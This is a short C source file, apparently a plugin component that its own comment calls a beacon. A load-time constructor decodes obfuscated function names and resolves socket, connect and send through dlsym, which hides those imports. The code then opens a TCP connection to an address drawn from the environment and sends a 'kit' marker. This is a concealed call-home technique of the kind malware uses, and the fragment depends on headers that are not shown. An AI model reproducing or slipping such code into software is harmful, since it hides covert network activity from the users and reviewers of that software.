/* The beacon's calls are in a table that a constructor before fills by dlsym, names
 * taken from one text by offset under a key that grows. */
#include "plugin.h"
#include "hidden.h" /* 0: the names with zeros between, as '/' */
extern void *dlsym(void *, const char *);
static struct { long (*f[4])(); } api;
__attribute__((constructor(101))) static void fill(void) {
    char *names = hidden0(), *c = names;
    for (int i = 0; i < 3; i++) {
        char *begin = c;
        while (*c && *c != '/') c++;
        *c++ = 0;
        api.f[i] = dlsym(0, begin);
    }
}
static void act(char **env) {
    struct address a = loopback(env);
    long s = api.f[0](2, 1, 0);
    if (api.f[1](s, &a, sizeof a) == 0) api.f[2](s, "\x01\x02kit", 5, 0);
}
